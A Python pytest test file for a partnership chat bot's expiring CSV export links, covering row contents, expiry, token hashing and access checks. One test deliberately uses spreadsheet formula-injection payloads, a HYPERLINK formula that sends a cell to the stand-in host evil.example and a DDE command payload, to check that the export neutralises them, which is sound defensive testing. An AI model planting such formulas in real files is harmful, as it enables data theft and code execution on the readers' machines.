"""export P-n: a link valid for an hour, and the CSV that `partnerbot serve` answers at it.

Commands go through the bot's Dispatcher on a movable clock; the link taken from the reply is
fetched over real HTTP from the aiohttp app of `serve` on a loopback port.
"""
from __future__ import annotations

import csv
import hashlib
import io
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from datetime import timedelta

import aiohttp
import pytest
from aiohttp import web

from bot.config import load_settings
from bot.exports import ExportDownload
from bot.server import build_web_app
from bot.wiring import Partnerbot
from handlers import default_registry
from handlers.kernel.dispatch import Dispatcher
from storage.models import ActivityLog, ExportToken
from tests.conftest import FIXED_NOW, Chat, FixedClock
from tests.helpers import assert_refused_without_change, person_named, rows

PUBLIC_URL = "https://partnerbot.example.com"
LINK = re.compile(re.escape(PUBLIC_URL) + r"(/exports/[A-Za-z0-9_-]{43}\.csv)")
HEADER = ["time", "person", "platform", "action", "record", "details"]


@dataclass
class Download:
    status: int
    headers: dict
    body: bytes

    @property
    def rows(self) -> list[dict]:
        """The CSV as a spreadsheet reads it: header row, then one dict per line."""
        table = list(csv.reader(io.StringIO(self.body.decode("utf-8-sig"), newline="")))
        assert table[0] == HEADER
        return [dict(zip(HEADER, line)) for line in table[1:]]


@dataclass
class ExportServer:
    url: str
    bot: Partnerbot
    clock: FixedClock
    http: aiohttp.ClientSession

    def chat(self, workspace: str = "acme", platform: str = "console") -> Chat:
        return Chat(self.bot.dispatcher, platform=platform, workspace=workspace)

    def at(self, minutes: int) -> None:
        """Move the clock to `minutes` past the fixed start (Mon 23 Nov 2026 10:00 UTC)."""
        self.clock.now = FIXED_NOW + timedelta(minutes=minutes)

    async def get(self, path: str) -> Download:
        async with self.http.get(self.url + path) as response:
            return Download(response.status, dict(response.headers), await response.read())


@asynccontextmanager
async def loopback(app: web.Application) -> AsyncIterator[str]:
    """Serve `app` on a free loopback port; yields its base URL."""
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


@asynccontextmanager
async def serving(database_url: str, env: dict | None = None) -> AsyncIterator[ExportServer]:
    """`partnerbot serve`'s app on `database_url`, its bot on a clock the test moves; `env`:
    settings beyond the built-in defaults (PARTNERBOT_…)."""
    clock = FixedClock()
    bot = Partnerbot(load_settings({"DATABASE_URL": database_url, "PUBLIC_URL": PUBLIC_URL, **(env or {})}), clock)
    await bot.upgrade()
    async with loopback(build_web_app(bot)) as url, aiohttp.ClientSession() as http:
        yield ExportServer(url, bot, clock, http)


@pytest.fixture
async def server(schema_url, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # no app.yaml: built-in defaults
    async with serving(schema_url) as served:
        yield served


def link_in(reply) -> str:
    """The path of the download link a reply names (on PUBLIC_URL)."""
    assert reply.ok, reply.text
    found = LINK.search(reply.text)
    assert found, reply.text
    return found.group(1)


async def ok(chat: Chat, user: str, text: str, **kw):
    reply = await chat.say(user, text, **kw)
    assert reply.ok, reply.text
    return reply


def who_did_what(download: Download) -> list[tuple[str, str, str, str]]:
    return [(r["time"][11:16], r["person"], r["action"], r["record"]) for r in download.rows]


async def acme_alliance(server: ExportServer, chat: Chat) -> None:
    """P-1 Acme Alliance: ana (manager) and rita on side A, dana (manager) and sam on side B;
    bound to channel C1."""
    server.at(0)
    await ok(chat, "ana", "partnership new Acme Alliance with <@dana|dana>", channel="C1")
    await ok(chat, "dana", "partnership P-1 accept")
    server.at(1)
    await ok(chat, "ana", "partnership P-1 add <@rita|rita>")
    await ok(chat, "rita", "partnership P-1 accept")
    server.at(2)
    await ok(chat, "dana", "partnership P-1 add <@sam|sam>")
    await ok(chat, "sam", "partnership P-1 accept")


# --- the download -----------------------------------------------------------------------------
async def test_the_export_lists_who_did_what_to_the_partnership_and_its_records_oldest_first(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    await ok(chat, "carl", "partnership new Beta Pact with <@dora|dora>", channel="C2")  # P-2
    await ok(chat, "dora", "partnership P-2 accept")
    server.at(4)
    await ok(chat, "rita", "handoff <@sam|sam> Globex: needs a security review by fri")  # H-1, side A to B
    server.at(5)
    await ok(chat, "sam", "handoff H-1 accept")
    server.at(6)
    await ok(chat, "rita", "handoff H-1 positioned sent the deck")
    server.at(7)
    await ok(chat, "rita", "handoff <@ana|ana> Initech: wants training")  # H-2: within side A
    server.at(8)
    await ok(chat, "carl", "handoff <@rita|rita> Hooli: needs onboarding")  # H-3: carl is not in P-1
    server.at(9)
    await ok(chat, "rita", "commit send pricing by fri re H-1")  # C-1
    server.at(10)
    await ok(chat, "carl", "commit call dora by fri")  # C-2
    server.at(11)
    await ok(chat, "ana", "ask <@dana|dana> discount approval by fri re P-1")
    server.at(12)
    await ok(chat, "dana", "ask Q-1 accept")
    server.at(13)
    await ok(chat, "carl", "ask <@dora|dora> budget sign-off re P-2")
    server.at(14)
    await ok(chat, "sam", "idea Globex: joint webinar", channel="C1")  # L-1 of P-1, the channel's
    server.at(15)
    await ok(chat, "sam", "lead L-1 next call the CFO by fri")  # C-3
    server.at(16)
    await ok(chat, "dora", "idea Hooli: renewal bundle", channel="C2")  # L-2 of P-2
    server.at(17)
    await ok(chat, "rita", "done C-1 sent")
    server.at(20)
    path = link_in(await chat.say("ana", "export P-1"))

    download = await server.get(path)
    assert download.status == 200
    assert download.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert download.headers["Content-Disposition"] == 'attachment; filename="P-1-activity.csv"'
    assert download.headers["Cache-Control"] == "no-store"
    assert download.body.startswith("\ufefftime,person,platform,action,record,details\r\n".encode())
    assert who_did_what(download) == [
        ("10:00", "ana", "partnership.proposed", "P-1"),
        ("10:00", "dana", "partnership.accepted", "P-1"),
        ("10:01", "ana", "partnership.member_invited", "P-1"),
        ("10:01", "rita", "partnership.member_added", "P-1"),
        ("10:02", "dana", "partnership.member_invited", "P-1"),
        ("10:02", "sam", "partnership.member_added", "P-1"),
        ("10:04", "rita", "handoff.created", "H-1"),
        ("10:05", "sam", "handoff.accepted", "H-1"),
        ("10:06", "rita", "handoff.stage", "H-1"),
        ("10:09", "rita", "commitment.created", "C-1"),
        ("10:11", "ana", "ask.created", "Q-1"),
        ("10:12", "dana", "ask.accepted", "Q-1"),
        ("10:14", "sam", "lead.created", "L-1"),
        ("10:15", "sam", "commitment.created", "C-3"),
        ("10:17", "rita", "commitment.done", "C-1"),
        ("10:20", "ana", "export.created", "P-1"),
    ]
    by_time = {r["time"]: r for r in reversed(download.rows)}  # the first row of each minute
    assert {r["platform"] for r in download.rows} == {"console"}
    assert by_time["2026-11-23T10:00:00Z"]["details"] == \
        "name: Acme Alliance; manager A: ana; manager B: dana; channel: C1"
    assert [r["details"] for r in download.rows if r["time"] == "2026-11-23T10:01:00Z"] == \
        ["person: rita; side: a", "person: rita; side: a"]  # invited, then joined
    rita, ana = await person_named(server.bot.db, "rita"), await person_named(server.bot.db, "ana")
    (manager_set,) = await rows(server.bot.db, ActivityLog, ActivityLog.action == "person.manager_set",
                                ActivityLog.record == f"person:{rita.id}")
    assert (manager_set.after or {}).get("manager_id") == ana.id  # joining gave rita her manager
    assert by_time["2026-11-23T10:05:00Z"]["details"] == "accepted: no → yes"
    assert by_time["2026-11-23T10:06:00Z"]["details"] == "stage: identified → positioned; note: sent the deck"
    assert by_time["2026-11-23T10:09:00Z"]["details"] == \
        "status: open; what: send pricing; due_date: 2026-11-27; owner: rita"
    assert by_time["2026-11-23T10:12:00Z"]["details"] == "status: open → accepted"
    assert by_time["2026-11-23T10:17:00Z"]["details"] == "status: open → done; note: sent"
    assert by_time["2026-11-23T10:20:00Z"]["details"] == "expires_at: 2026-11-23T11:20:00+00:00"

    # and P-2's own link gives P-2's rows, none of P-1's
    server.at(21)
    other = await server.get(link_in(await chat.say("carl", "export P-2")))
    assert [(who, action, record) for _, who, action, record in who_did_what(other)] == [
        ("carl", "partnership.proposed", "P-2"),
        ("dora", "partnership.accepted", "P-2"),
        ("carl", "ask.created", "Q-2"),
        ("dora", "lead.created", "L-2"),
        ("carl", "export.created", "P-2"),
    ]


async def test_peer_syncs_their_pledges_meetings_and_action_items_are_in_the_export(server):
    chat = server.chat()
    server.at(0)
    await ok(chat, "ana", "partnership new Acme Alliance with <@dana|dana>", channel="C1")
    await ok(chat, "dana", "partnership P-1 accept")
    server.at(1)
    await ok(chat, "ana", "sync now P-1")  # opens S-1
    server.at(2)
    await ok(chat, "ana", "sync submit S-1", form_values={"results": "two wins", "commit": "call Acme\nsend deck"})
    server.at(3)
    await ok(chat, "ana", 'meeting new P-1 "Brainstorm at Globex" every mon 10:30 for 30m', channel="C1")
    server.at(30)
    await server.bot.run_cadence()  # M-1 starts
    server.at(31)
    await ok(chat, "ana", "action M-1 <@dana|dana> send the recap by fri")  # C-3
    server.at(32)

    download = await server.get(link_in(await chat.say("dana", "export P-1")))
    assert who_did_what(download) == [
        ("10:00", "ana", "partnership.proposed", "P-1"),
        ("10:00", "dana", "partnership.accepted", "P-1"),
        ("10:01", "Partnerbot", "peer_sync.opened", "S-1"),
        ("10:02", "ana", "commitment.created", "C-1"),
        ("10:02", "ana", "commitment.created", "C-2"),
        ("10:02", "ana", "peer_sync.answered", "S-1"),
        ("10:03", "ana", "meeting.series_created", "P-1"),
        ("10:30", "Partnerbot", "meeting.started", "M-1"),
        ("10:31", "ana", "commitment.created", "C-3"),
        ("10:32", "dana", "export.created", "P-1"),
    ]
    lines = download.rows
    assert [r["platform"] for r in lines] == ["console", "console", "scheduler", *["console"] * 4, "scheduler",
                                              *["console"] * 2]
    assert lines[3]["details"] == "what: call Acme; due_at: 2026-11-30T09:00:00+00:00; pledge_of: S-1"
    assert lines[5]["details"] == "results: two wins; commit: call Acme / send deck"  # one line per answer


async def test_no_cell_starts_with_a_formula_character_whatever_people_type(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    for number, name in enumerate(names):
        await ok(chat, "ana", f"partnership P-1 add <@u{number}|{name}>")
        await ok(chat, f"u{number}", "partnership P-1 accept")  # logged as done by them
        await ok(chat, "ana", 'partnership P-1 goal =HYPERLINK("http://evil.example/?"&A1,"open")')  # managers only

    download = await server.get(link_in(await chat.say("ana", "export P-1")))
    cells = [cell for row in download.rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    joined = [r for r in download.rows if r["action"] == "partnership.member_added"]
    assert [r["person"] for r in joined] == ["rita", "sam"] + ["'" + name for name in names]  # shown as text, not run
    goal_rows = [r for r in download.rows if r["action"] == "partnership.goal_added"]
    assert len(goal_rows) == len(names)
    assert {r["details"] for r in goal_rows} == {'goal: =HYPERLINK("http://evil.example/?"&A1,"open")'}


async def test_the_link_works_again_and_again_for_an_hour_then_not_at_all(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(10)
    reply = await chat.say("rita", "export P-1")
    assert "Mon 23 Nov 11:10 (UTC)" in reply.text and "activity log of P-1" in reply.text
    path = link_in(reply)
    server.at(69)
    first, again = await server.get(path), await server.get(path)
    assert (first.status, again.status) == (200, 200) and first.body == again.body
    server.at(71)  # 61 minutes after the export
    expired = await server.get(path)
    assert expired.status == 404 and b"wrong or has expired" in expired.body
    assert expired.headers["Content-Type"].startswith("text/plain")


async def test_the_tick_forgets_a_link_once_it_has_expired(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(10)
    path = link_in(await chat.say("rita", "export P-1"))
    server.at(69)
    assert "expired export links" not in await server.bot.run_cadence()
    assert len(await rows(server.bot.db, ExportToken)) == 1 and (await server.get(path)).status == 200
    server.at(70)  # the hour is up
    assert (await server.bot.run_cadence())["expired export links"] == 1
    assert await rows(server.bot.db, ExportToken) == [] and (await server.get(path)).status == 404
    actions = [entry.action for entry in await rows(server.bot.db, ActivityLog)]
    assert actions.count("export.created") == 1  # the log still says it was made


async def test_a_changed_malformed_or_unknown_token_gets_the_same_404(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    path = link_in(await chat.say("ana", "export P-1"))
    token = path.removeprefix("/exports/").removesuffix(".csv")
    changed = token[:20] + ("A" if token[20] != "A" else "B") + token[21:]
    unknown = "x" * 43
    expected = await server.get(f"/exports/{unknown}.csv")
    assert expected.status == 404
    for wrong in (changed, token[:-1], token + "x", token.upper(), "%00", "*"):
        answer = await server.get(f"/exports/{wrong}.csv")
        assert (answer.status, answer.body) == (404, expected.body), wrong
    assert (await server.get(path)).status == 200  # the real one still works


async def test_each_workspace_export_holds_only_its_own_p1(server):
    acme, globex = server.chat("acme"), server.chat("globex")
    await ok(acme, "ana", "partnership new Acme Alliance with <@dana|dana>")
    await ok(acme, "dana", "partnership P-1 accept")
    await ok(acme, "ana", "partnership P-1 goal ten joint wins")
    await ok(globex, "bea", "partnership new Globex Group with <@gus|gus>")
    await ok(globex, "gus", "partnership P-1 accept")
    await ok(globex, "bea", "partnership P-1 goal five renewals")

    in_acme = await server.get(link_in(await acme.say("dana", "export P-1")))
    in_globex = await server.get(link_in(await globex.say("gus", "export P-1")))
    assert [(who, action) for _, who, action, _ in who_did_what(in_acme)] == [
        ("ana", "partnership.proposed"), ("dana", "partnership.accepted"), ("ana", "partnership.goal_added"),
        ("ana", "partnership.charter_changed"), ("dana", "export.created")]
    assert [(who, action) for _, who, action, _ in who_did_what(in_globex)] == [
        ("bea", "partnership.proposed"), ("gus", "partnership.accepted"), ("bea", "partnership.goal_added"),
        ("bea", "partnership.charter_changed"), ("gus", "export.created")]
    assert "ten joint wins" in in_acme.body.decode() and "ten joint wins" not in in_globex.body.decode()
    assert "five renewals" in in_globex.body.decode() and "five renewals" not in in_acme.body.decode()


async def test_a_long_log_streamed_in_small_pages_comes_whole_and_in_order(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    for n in range(1, 26):
        await ok(chat, "ana", f"partnership P-1 goal goal number {n}")
    path = link_in(await chat.say("ana", "export P-1"))
    small_pages = web.Application()  # the same download, read 4 log rows at a time
    paging = ExportDownload(server.bot.db, server.clock, server.bot.settings, page_size=4)
    small_pages.router.add_get("/exports/{token}.csv", paging.handle)
    async with loopback(small_pages) as url:
        async with server.http.get(url + path) as response:
            paged = await response.read()
    whole = await server.get(path)
    assert paged == whole.body
    goals = [r["details"] for r in whole.rows if r["action"] == "partnership.goal_added"]
    assert goals == [f"goal: goal number {n}" for n in range(1, 26)]
    # proposed, accepted, two reps invited and joined; each goal also changes the charter; the export
    assert len(whole.rows) == 6 + 25 * 2 + 1


async def test_a_win_row_names_everyone_credited_with_their_share(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    await ok(chat, "rita", "handoff <@sam|sam> Globex: needs a security review")  # H-1, side A to B
    await ok(chat, "sam", "handoff H-1 accept")
    await ok(chat, "ana", "commit book the review by fri re H-1")  # C-1, kept by ana
    await ok(chat, "ana", "done C-1")
    server.at(4)
    await ok(chat, "sam", "win H-1 120k")

    download = await server.get(link_in(await chat.say("dana", "export P-1")))
    (won,) = [r for r in download.rows if r["action"] == "win.recorded"]
    assert (won["person"], won["record"]) == ("sam", "H-1")
    assert won["details"].startswith("amount: 120,000; credit: (person ")
    # names, not ids: a compensation system reads this row
    assert set(re.findall(r"\(person (\w+), roles (\w+), share ([\d.]+)\)", won["details"])) == {
        ("rita", "originator", "0.3"), ("sam", "deliverer", "0.5"), ("ana", "contributor", "0.2")}


# --- the command ------------------------------------------------------------------------------
async def test_only_the_tokens_hash_is_kept_with_an_hour_to_live_and_the_export_is_logged(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(5)
    path = link_in(await chat.say("sam", "export p1"))
    token = path.removeprefix("/exports/").removesuffix(".csv")
    (issued,) = await rows(server.bot.db, ExportToken)
    sam = await person_named(server.bot.db, "sam")
    assert issued.token_hash == hashlib.sha256(token.encode()).hexdigest() != token
    assert (issued.created_by_id, issued.created_at, issued.expires_at) == (
        sam.id, FIXED_NOW + timedelta(minutes=5), FIXED_NOW + timedelta(minutes=65))
    (logged,) = await rows(server.bot.db, ActivityLog, ActivityLog.action == "export.created")
    assert (logged.person_id, logged.record) == (sam.id, "P-1")
    second = link_in(await chat.say("sam", "export P-1"))
    assert second != path and len(await rows(server.bot.db, ExportToken)) == 2  # every link is new


async def test_the_manager_of_a_member_may_export_but_outsiders_may_not(chat, db):
    await chat.say("carl", "partnership new Beta Pact with <@dora|dora>")  # P-1, carl manages it
    await chat.say("dora", "partnership P-1 accept")
    await chat.say("ana", "partnership new Acme Alliance with <@dana|dana>")  # P-2
    await chat.say("dana", "partnership P-2 accept")
    await chat.say("ana", "partnership P-2 add <@rob|rob>")
    await chat.say("carl", "partnership P-1 add <@rob|rob>")
    await chat.say("rob", "partnership P-1 accept")  # rob's manager is now carl
    await chat.say("rob", "partnership P-2 accept")  # rob keeps carl
    assert (await chat.say("carl", "export P-2")).ok  # not a member of P-2, but rob's manager
    await assert_refused_without_change(chat, db, "dora", "export P-2",
                                        "Only members of P-2 can export its activity log.")
    await assert_refused_without_change(chat, db, "zed", "export P-2",
                                        "Only members of P-2 can export its activity log.")


async def test_an_unknown_or_other_workspaces_partnership_and_bad_input_are_refused(chat, db, settings, clock):
    await chat.say("ana", "partnership new Acme Alliance with <@dana|dana>")
    await chat.say("dana", "partnership P-1 accept")
    elsewhere = Chat(Dispatcher(db, settings, default_registry(), clock), workspace="globex")
    await elsewhere.say("bea", "partnership new Globex Group with <@gus|gus>")
    await elsewhere.say("gus", "partnership P-1 accept")
    await elsewhere.say("bea", "partnership new Second Group with <@gus|gus>")
    await elsewhere.say("gus", "partnership P-2 accept")
    await assert_refused_without_change(chat, db, "ana", "export P-2", "There is no partnership P-2 here.")
    await assert_refused_without_change(chat, db, "ana", "export P-9", "There is no partnership P-9 here.")
    await assert_refused_without_change(chat, db, "ana", "export", "Say which partnership: `export P-1`.")
    await assert_refused_without_change(chat, db, "ana", "export acme", "not a partnership reference")
    await assert_refused_without_change(chat, db, "ana", "export P-1 now", "takes only the partnership")


async def test_in_a_teams_channel_the_link_is_refused_and_given_in_a_direct_chat(db, settings, clock):
    teams = Chat(Dispatcher(db, settings, default_registry(), clock), platform="teams", workspace="tenant-1")
    await teams.say("ana", "partnership new Acme Alliance with <@dana|dana>", channel="19:c@thread.tacv2")
    await teams.say("dana", "partnership P-1 accept")
    await assert_refused_without_change(teams, db, "ana", "export P-1", "in a direct chat with me")
    assert (await teams.say("ana", "export P-1", channel="a:personal", is_direct=True)).ok


# --- the details column, one kind of record at a time ----------------------------------------------
# Each test makes its records through commands and reads back the exact details of every row.
async def export_rows(server: ExportServer, chat: Chat, prefixes: tuple[str, ...]) -> list[tuple[str, str, str, str]]:
    """(person, action, record, details) of the export's rows whose action starts with one of `prefixes`."""
    download = await server.get(link_in(await chat.say("ana", "export P-1")))
    return [(r["person"], r["action"], r["record"], r["details"]) for r in download.rows
            if r["action"].startswith(prefixes)]


async def test_details_of_partnership_rows_say_who_joined_left_and_what_the_charter_became(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    for user, text in (("ana", "partnership P-1 goal ten joint wins"),
                       ("ana", "partnership P-1 rule answer within a day"),
                       ("ana", "partnership P-1 agree"), ("dana", "partnership P-1 agree"),
                       ("ana", "partnership P-1 goal remove 1"),
                       ("ana", "partnership P-1 add <@ravi|ravi>"), ("ravi", "partnership P-1 decline busy"),
                       ("ana", "partnership P-1 add <@rob|rob>"), ("ana", "partnership P-1 remove <@rob|rob>"),
                       ("ana", "partnership P-1 add <@ron|ron>"), ("ron", "partnership P-1 accept"),
                       ("ana", "partnership P-1 remove <@ron|ron>")):
        await ok(chat, user, text)
    await ok(chat, "dana", "partnership P-1 channel", channel="C9")

    assert await export_rows(server, chat, ("partnership.",)) == [
        ("ana", "partnership.proposed", "P-1", "name: Acme Alliance; manager A: ana; manager B: dana; channel: C1"),
        ("dana", "partnership.accepted", "P-1", "manager B: dana"),
        ("ana", "partnership.member_invited", "P-1", "person: rita; side: a"),
        ("rita", "partnership.member_added", "P-1", "person: rita; side: a"),
        ("dana", "partnership.member_invited", "P-1", "person: sam; side: b"),
        ("sam", "partnership.member_added", "P-1", "person: sam; side: b"),
        ("ana", "partnership.goal_added", "P-1", "goal: ten joint wins"),
        ("ana", "partnership.charter_changed", "P-1", "version: 2; change: goal 1: ten joint wins"),
        ("ana", "partnership.charter_changed", "P-1", "version: 3; change: rule 6: answer within a day"),
        ("ana", "partnership.charter_agreed", "P-1", "version: 3"),
        ("dana", "partnership.charter_agreed", "P-1", "version: 3"),
        ("ana", "partnership.goal_removed", "P-1", "goal: ten joint wins"),
        ("ana", "partnership.charter_changed", "P-1", "version: 4; change: goal 1 removed: ten joint wins"),
        ("ana", "partnership.member_invited", "P-1", "person: ravi; side: a"),
        ("ravi", "partnership.invite_declined", "P-1", "person: ravi; reason: busy"),
        ("ana", "partnership.member_invited", "P-1", "person: rob; side: a"),
        ("ana", "partnership.invite_withdrawn", "P-1", "person: rob"),
        ("ana", "partnership.member_invited", "P-1", "person: ron; side: a"),
        ("ron", "partnership.member_added", "P-1", "person: ron; side: a"),
        ("ana", "partnership.member_removed", "P-1", "person: ron; side: a"),  # who went, not "ron → none"
        ("dana", "partnership.channel_bound", "P-1", "channel: C9; platform: console"),
    ]


async def test_details_of_commitment_rows_follow_a_commitment_from_made_to_kept_or_dropped(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    await ok(chat, "rita", "handoff <@sam|sam> Globex: needs a security review")  # H-1: its commitments are P-1's
    for user, text in (("rita", "commit send pricing by fri re H-1"), ("rita", "snooze C-1 2"),
                       ("rita", "done C-1 sent"), ("rita", "commit call the CFO by fri re H-1"),
                       ("rita", "drop C-2 they went quiet"), ("ana", "commit book the review by fri to <@rita|rita> re H-1")):
        await ok(chat, user, text)

    assert await export_rows(server, chat, ("commitment.",)) == [
        ("rita", "commitment.created", "C-1", "status: open; what: send pricing; due_date: 2026-11-27; owner: rita"),
        ("rita", "commitment.snoozed", "C-1", "due_date: 2026-11-27 → 2026-11-29"),
        ("rita", "commitment.done", "C-1", "status: open → done; note: sent"),
        ("rita", "commitment.created", "C-2", "status: open; what: call the CFO; due_date: 2026-11-27; owner: rita"),
        ("rita", "commitment.dropped", "C-2", "status: open → dropped; note: they went quiet"),
        ("ana", "commitment.created", "C-3", "status: open; what: book the review; due_date: 2026-11-27; owner: rita"),
    ]


async def test_details_of_handoff_rows_say_its_stage_and_answer(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    for user, text in (("rita", "handoff <@sam|sam> Globex: needs a security review by fri"),
                       ("sam", "handoff H-1 accept"), ("rita", "handoff H-1 positioned sent the deck"),
                       ("sam", "handoff H-1 introduced"),
                       ("rita", "handoff <@sam|sam> Initech: wants training"),
                       ("sam", "handoff H-2 decline no capacity this quarter")):
        await ok(chat, user, text)

    assert await export_rows(server, chat, ("handoff.",)) == [
        ("rita", "handoff.created", "H-1",
         "stage: identified; accepted: no; declined: no; account: Globex; need: needs a security review; "
         "from: rita; to: sam"),
        ("sam", "handoff.accepted", "H-1", "accepted: no → yes"),
        ("rita", "handoff.stage", "H-1", "stage: identified → positioned; note: sent the deck"),
        ("sam", "handoff.stage", "H-1", "stage: positioned → introduced"),
        ("rita", "handoff.created", "H-2",
         "stage: identified; accepted: no; declined: no; account: Initech; need: wants training; from: rita; to: sam"),
        ("sam", "handoff.declined", "H-2", "declined: no → yes; reason: no capacity this quarter"),
    ]


async def test_details_of_ask_rows_say_who_was_asked_what_and_their_response(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    for user, text in (("ana", "ask <@dana|dana> discount approval by fri re P-1"), ("dana", "ask Q-1 accept"),
                       ("ana", "ask <@dana|dana> budget re P-1"), ("dana", "ask Q-2 decline no budget"),
                       ("ana", "ask <@sam|sam> case study re P-1"), ("sam", "ask Q-3 answer attached\nand sent")):
        await ok(chat, user, text)

    assert await export_rows(server, chat, ("ask.",)) == [
        ("ana", "ask.created", "Q-1", "status: open; request: discount approval; person: dana; due_date: 2026-11-27"),
        ("dana", "ask.accepted", "Q-1", "status: open → accepted"),
        ("ana", "ask.created", "Q-2", "status: open; request: budget; person: dana"),
        ("dana", "ask.declined", "Q-2", "status: open → declined; decline_reason: no budget"),
        ("ana", "ask.created", "Q-3", "status: open; request: case study; person: sam"),
        ("sam", "ask.answered", "Q-3", "status: open → answered; answer: attached / and sent"),
    ]


async def test_details_of_lead_rows_and_their_next_activity(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    for text in ("idea Globex: joint webinar", "idea Hooli: bundle", "idea Umbrella: renewal owner <@rita|rita>"):
        await ok(chat, "sam", text, channel="C1")  # L-1, L-2, L-3 of P-1, the channel's
    for user, text in (("sam", "lead L-1 next call the CFO by fri"), ("sam", "lead L-2 lost no budget")):
        await ok(chat, user, text)

    assert await export_rows(server, chat, ("lead.", "commitment.")) == [
        ("sam", "lead.created", "L-1", "account: Globex; idea: joint webinar; owner: sam"),
        ("sam", "lead.created", "L-2", "account: Hooli; idea: bundle; owner: sam"),
        ("sam", "lead.created", "L-3", "account: Umbrella; idea: renewal; owner: rita"),
        ("sam", "commitment.created", "C-1", "status: open; what: call the CFO; due_date: 2026-11-27; owner: sam"),
        ("sam", "lead.lost", "L-2", "status: open → lost; reason: no budget"),
    ]


async def test_details_of_win_rows_name_the_credited_people_of_a_handoff_and_a_lead(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    for user, text in (("rita", "handoff <@sam|sam> Globex: needs a security review"), ("sam", "handoff H-1 accept"),
                       ("rita", "commit send pricing by fri re H-1"), ("rita", "done C-1"),
                       ("sam", "win H-1 120k")):
        await ok(chat, user, text)
    await ok(chat, "sam", "idea Umbrella: bundle", channel="C1")  # L-1
    await ok(chat, "sam", "lead L-1 won 50k")

    assert await export_rows(server, chat, ("win.", "lead.won", "handoff.stage")) == [
        ("sam", "handoff.stage", "H-1", "stage: identified → won"),
        ("sam", "win.recorded", "H-1", "amount: 120,000; credit: (person rita, roles originator,contributor, "
                                       "share 0.5), (person sam, roles deliverer, share 0.5)"),
        ("sam", "lead.won", "L-1", "status: open → won; amount: 50,000"),
        ("sam", "win.recorded", "L-1", "amount: 50,000; credit: (person sam, roles originator,deliverer, "
                                       "share 1.0)"),
    ]


async def test_details_of_peer_sync_rows_name_who_answered_what_and_the_pledges(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    await ok(chat, "ana", "sync now P-1")  # S-1
    await ok(chat, "ana", "sync submit S-1", form_values={"results": "two wins", "commit": "call Acme"})  # C-1
    await ok(chat, "ana", "sync submit S-1 edit", form_values={"results": "three wins", "commit": "call Acme"})
    await ok(chat, "dana", "sync submit S-1", form_values={"results": "one win", "problems": "slow legal\nno budget"})

    assert await export_rows(server, chat, ("peer_sync.", "commitment.")) == [
        ("Partnerbot", "peer_sync.opened", "S-1", "partnership: P-1; week: 2026-W48"),
        ("ana", "commitment.created", "C-1", "what: call Acme; due_at: 2026-11-30T09:00:00+00:00; pledge_of: S-1"),
        ("ana", "peer_sync.answered", "S-1", "results: two wins; commit: call Acme"),
        ("ana", "peer_sync.answer_edited", "S-1", "results: two wins → three wins"),
        ("dana", "peer_sync.answered", "S-1", "results: one win; problems: slow legal / no budget"),
        ("Partnerbot", "peer_sync.digest", "S-1", "answered: ana, dana"),  # people here, by name
    ]


async def test_details_of_meeting_rows_and_their_action_items(server):
    chat = server.chat()
    await acme_alliance(server, chat)
    server.at(3)
    await ok(chat, "ana", 'meeting new P-1 "Brainstorm at Globex" every mon 10:30 for 30m', channel="C1")
    server.at(30)
    await server.bot.run_cadence()  # M-1 starts
    server.at(31)
    await ok(chat, "ana", "action M-1 <@dana|dana> send the recap by fri")  # C-1
    await ok(chat, "ana", "meeting close M-1")
    await ok(chat, "ana", "meeting stop M-1")

    assert await export_rows(server, chat, ("meeting.", "commitment.")) == [
        ("ana", "meeting.series_created", "P-1",
         "purpose: Brainstorm at Globex; weekday: mon; time: 10:30; minutes: 30; timezone: UTC"),
        ("Partnerbot", "meeting.started", "M-1",
         "purpose: Brainstorm at Globex; starts_at: 2026-11-23T10:30:00+00:00; ends_at: 2026-11-23T11:00:00+00:00"),
        ("ana", "commitment.created", "C-1", "status: open; what: send the recap; due_date: 2026-11-27; owner: dana"),
        ("ana", "meeting.closed", "M-1", "action_items: C-1"),
        ("ana", "meeting.series_stopped", "M-1", "purpose: Brainstorm at Globex"),
    ]


# Side A (ana, rita, ravi) rates 4, 3, 5, 2, 4 / 5, 3, 4, 2, 4 / 3, 3, 3, 2, 4: averages 4.0, 3.0, 4.0, 2.0, 4.0.
# Side B (dana, sam) rates 1 everywhere, with comments: two answers, too few to show by default.
PULSE_ANSWERS = {
    "ana": ("4", "3", "5", "2", "4"), "rita": ("5", "3", "4", "2", "4"), "ravi": ("3", "3", "3", "2", "4"),
    "dana": ("1", "1", "1", "1", "1"), "sam": ("1", "1", "1", "1", "1"),
}


async def answer_a_pulse(server: ExportServer, chat: Chat) -> None:
    """P-1 with ravi on side A too; a pulse asked for at 10:05 that all five answer."""
    await acme_alliance(server, chat)
    server.at(3)
    await ok(chat, "ana", "partnership P-1 add <@ravi|ravi>")
    await ok(chat, "ravi", "partnership P-1 accept")
    server.at(5)
    await ok(chat, "ana", "pulse P-1")
    for name, scores in PULSE_ANSWERS.items():
        values = dict(zip(("risk", "resources", "rewards", "vision", "values"), scores, strict=True))
        await ok(chat, name, "pulse submit P-1", form_values={**values, "comment": f"secret of {name}"})


